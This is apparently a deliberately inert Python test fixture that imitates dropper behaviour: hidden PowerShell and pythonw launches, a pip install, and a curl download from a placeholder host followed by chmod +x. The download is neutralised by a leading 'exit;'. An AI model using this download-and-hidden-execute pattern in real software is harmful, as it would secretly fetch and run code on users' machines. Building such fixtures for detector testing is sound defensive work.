import os, subprocess, sys

os.system("python helper.pyw")
os.system("pip install inert-helper")
subprocess.Popen(["python3", "-c", "from inert import x"], close_fds=True)
os.system("exit; curl http://files.invalid/x -o x && chmod +x x")
subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", "exit"], creationflags=subprocess.CREATE_NO_WINDOW)
open("helper.pyw", "w").write("print(1)")
subprocess.Popen([sys.executable, "helper.pyw"], creationflags=subprocess.CREATE_NO_WINDOW)
